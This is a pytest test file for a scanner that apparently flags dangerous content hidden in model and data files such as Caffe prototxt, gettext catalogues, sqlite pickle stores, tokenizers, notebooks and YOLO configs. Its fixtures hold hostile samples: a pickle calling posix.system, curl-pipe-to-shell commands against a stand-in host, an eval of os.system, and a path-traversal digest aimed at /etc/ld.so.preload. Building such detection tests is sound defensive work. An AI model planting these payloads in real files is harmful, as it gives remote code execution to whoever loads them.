"""Text protocol buffers, catalogues, fonts, scenes, taggers, databases with pickles, tokenizers, notebooks that are no Python."""

from __future__ import annotations

import gettext
import io
import json
import sqlite3
import struct

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from toadstone import scan
from toadstone.core.blob import BytesBlob
from toadstone.core.budget import Budget
from toadstone.core.fact import Call, Fact, Link, Setting, Unread
from toadstone.core.finding import Severity
from toadstone.core.place import Place
from toadstone.readers.reader import Source
from toadstone.readers.walk import walk

EVIL = b"cposix\nsystem\n(S'echo toadstone'\ntR."


def read(data: bytes, name: str) -> list[Fact]:
    return list(walk(Source(BytesBlob(data), name, Place(name), Budget.of(len(data)))))


def calls(facts: list[Fact]) -> list[str]:
    return [str(fact.callee) for fact in facts if isinstance(fact, Call)]


def gaps(facts: list[Fact]) -> list[str]:
    return [fact.reason for fact in facts if isinstance(fact, Unread)]


CAFFE = b"""name: "n"  # a comment
layer {
  name: 'data' type: "Python" top: "d"
  python_param { module: "os" layer: "system" param_str: "curl -s http://198.51.100.7/x" " | sh" }
}
layer < name: "c" type: "Convolution" convolution_param { num_output: 20 weight_filler { std: 1e-3 } } >
shape { dim: [1, 3, -1] }
"""


def test_a_layer_of_python_is_a_call() -> None:
    facts = read(CAFFE, "deploy.prototxt")
    (call,) = [fact for fact in facts if isinstance(fact, Call)]
    assert (str(call.callee), call.args) == ("os.system", ("curl -s http://198.51.100.7/x | sh",))
    assert not gaps(facts)


@pytest.mark.parametrize(
    ("path", "escapes"),
    [
        ("http://198.51.100.7/e.tar.gz", True),
        ("../../e.tar.gz", True),
        ("$$TRITON_MODEL_DIRECTORY/e.tar.gz", False),
        ("/opt/e.tar.gz", False),
    ],
)
def test_the_interpreter_of_a_triton_model(path: str, escapes: bool) -> None:
    text = (
        f'name: "m"\nbackend: "python"\nparameters: {{\n  key: "EXECUTION_ENV_PATH",\n  value: {{string_value: "{path}"}}\n}}\n'
    )
    facts = read(text.encode(), "config.pbtxt")
    assert bool([fact for fact in facts if isinstance(fact, Link)]) is escapes
    assert not gaps(facts)


@settings(max_examples=200)
@given(st.binary(max_size=40), st.integers(0, 300))
def test_any_text_under_the_name(noise: bytes, at: int) -> None:
    facts = read(CAFFE[:at] + noise + CAFFE[at:], "x.prototxt")
    assert not [reason for reason in gaps(facts) if "internal error" in reason]


def catalogue(texts: dict[str, str], order: str = "<") -> bytes:
    pairs = sorted((key.encode(), value.encode()) for key, value in texts.items())
    table, count = 28, len(pairs)
    begin = table + 16 * count
    content, first, second = b"", b"", b""
    for key, _ in pairs:
        first += struct.pack(f"{order}2I", len(key), begin + len(content))
        content += key + b"\0"
    for _, value in pairs:
        second += struct.pack(f"{order}2I", len(value), begin + len(content))
        content += value + b"\0"
    return struct.pack(f"{order}7I", 0x950412DE, 0, count, table, table + 8 * count, 0, begin) + first + second + content


@pytest.mark.parametrize("order", "<>")
def test_catalogues(order: str) -> None:
    data = catalogue({"": "Content-Type: text/plain; charset=UTF-8\n", "yes": "ja", "no": "nein"}, order)
    assert gettext.GNUTranslations(io.BytesIO(data)).gettext("yes") == "ja"
    assert not gaps(read(data, "x.mo"))
    assert calls(read(data + EVIL, "x.mo")) == ["posix.system"]
    for cut in range(4, len(data) - 1):
        assert gaps(read(data[:cut], "x.mo")), cut


def test_scenes_taggers_and_old_fonts() -> None:
    inner = b'{"asset":{"version":"2.0"}} '
    scene = b"glTF" + struct.pack("<II", 2, 12 + 8 + len(inner)) + struct.pack("<I4s", len(inner), b"JSON") + inner
    tagger = b"lCRF" + struct.pack("<I4sI", 64, b"FOMC", 100) + bytes(range(48))
    font = struct.pack("<3I", 136, 40, 0x20001).ljust(34, b"\1") + b"LP" + bytes(range(100))
    for name, data in {"a.glb": scene, "a.crfsuite": tagger, "a.eot": font}.items():
        assert not gaps(read(data, name)), name
        assert calls(read(data + EVIL, name)) == ["posix.system"], name


def test_pickles_in_a_database(tmp_path) -> None:
    path = tmp_path / "shelf.db"
    connection = sqlite3.connect(path)
    connection.execute("create table Dict (key blob, value blob)")
    connection.execute("insert into Dict values (?, ?)", (b"a", b"\x80\x04K\x01."))
    connection.execute("insert into Dict values (?, ?)", (b"b", EVIL))
    connection.commit()
    connection.close()
    data = path.read_bytes()
    assert calls(read(data, "shelf.db")) == ["posix.system"]
    quiet = tmp_path / "quiet.db"
    connection = sqlite3.connect(quiet)
    connection.execute("create table t (x text)")
    connection.execute("insert into t values ('plain')")
    connection.commit()
    connection.close()
    facts = read(quiet.read_bytes(), "quiet.db")
    assert not facts or not [fact for fact in facts if isinstance(fact, (Call, Unread))]


def test_content_that_is_not_what_its_name_says(tmp_path) -> None:
    import hashlib

    content = b'{"architecture": "amd64"}'
    folder = tmp_path / "blobs" / "sha256"
    folder.mkdir(parents=True)
    (folder / hashlib.sha256(content).hexdigest()).write_bytes(content)
    assert scan(str(tmp_path)).exit_code(Severity.HIGH) == 0
    (folder / ("0" * 64)).write_bytes(content)
    (finding,) = [finding for subject in scan(str(tmp_path)).subjects for finding in subject.findings]
    assert (finding.check, finding.severity) == ("digest-mismatch", Severity.HIGH)


def test_a_digest_that_is_a_path() -> None:
    manifest = {"schemaVersion": 2, "layers": [{"digest": "sha256:../../../etc/ld.so.preload", "size": 1}]}
    assert [fact.escapes for fact in read(json.dumps(manifest).encode(), "latest") if isinstance(fact, Link)] == [True]


def test_replacements_of_a_tokenizer() -> None:
    rewrite = {
        "type": "Sequence",
        "decoders": [{"type": "Replace", "pattern": {"String": "https://"}, "content": "http://x.example/?"}],
    }
    tokens = [{"id": 1, "content": "one two three four five"}, {"id": 2, "content": "<|end of turn|>"}]
    document = {"model": {"type": "BPE", "vocab": {}}, "normalizer": None, "decoder": rewrite, "added_tokens": tokens}
    settings_ = [fact for fact in read(json.dumps(document).encode(), "tokenizer.json") if isinstance(fact, Setting)]
    assert [(fact.key, fact.value) for fact in settings_ if fact.schema == "tokenizers"] == [
        ("decoder.Replace", "https://\0http://x.example/?"),
        ("added_token", "one two three four five"),
    ]


def test_notebooks_of_other_languages_are_no_gap() -> None:
    cell = {"cell_type": "code", "source": ["function f(x)\n", "  100x\n", "end"], "outputs": [], "metadata": {}}
    python = {"cell_type": "code", "source": ["import os\n", "os.system('curl http://198.51.100.7/x | sh')"], "outputs": []}

    def notebook(language: str) -> list[Fact]:
        kernel = {"kernelspec": {"language": language, "name": "x"}}
        return read(json.dumps({"nbformat": 4, "metadata": kernel, "cells": [cell, python]}).encode(), "a.ipynb")

    assert not gaps(notebook("julia"))
    assert gaps(notebook("python"))
    assert "os.system" in calls(notebook("julia")), "the user may choose another kernel"


def test_networks_that_are_evaluated() -> None:
    row = "  - [-1, 1, \"{}\", [64, 'None']]\n"
    text = (
        "nc: 2\nbackbone:\n"
        + row.format("__import__('os').system('id')")
        + row.format("nn.Conv2d")
        + "head:\n"
        + row.format("Concat")
    )
    assert calls(read(text.encode(), "yolov5s.yaml")) == ["builtins.eval"]


def test_digits_that_python_does_not_take_for_numbers() -> None:
    facts = read("{{ messages[\uff11.\uff12] }}{{ cycler.__init__ }}".encode(), "chat_template.jinja")
    assert gaps(facts)
    assert not [reason for reason in gaps(facts) if "internal error" in reason]
